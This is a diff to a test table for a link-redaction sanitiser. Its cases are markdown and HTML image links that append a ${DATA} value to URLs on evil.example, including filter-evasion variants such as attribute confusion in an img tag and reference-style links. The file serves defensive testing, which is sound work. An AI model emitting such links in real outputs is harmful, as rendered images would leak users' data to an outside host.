@@ -62,7 +62,7 @@ test.each([
 	[`![https://good.example](https://evil.example/p.png?q=${DATA}) end`, "[LINK REDACTED] end"],
 	[`![=https://good.example/](https://evil.example/p.png?q=${DATA}) end`, "[LINK REDACTED] end"],
 	[`[https://good.example/](https://evil.example/'?q=${DATA}) end`, "[LINK REDACTED] end"],
-	[`<img alt="src=https://good.example/"src="https://evil.example/?q=${DATA}"> end`, "[LINK REDACTED]> end"],
+	[`<img alt="src=https://good.example/"src="https://evil.example/?q=${DATA}"> end`, "[LINK REDACTED] end"],
 	[`![a[b]c](https://evil.example/p.png?q=${DATA}) end`, "![a[b]c[LINK REDACTED] end"],
 	[`![a][b]\n\n[b]: <https://evil.example/?q=${DATA}> end`, "![a][b]\n\n[b[LINK REDACTED]> end"],
 	[`![x](<https://evil.example/?q=${DATA}>) end`, "[LINK REDACTED]) end"],
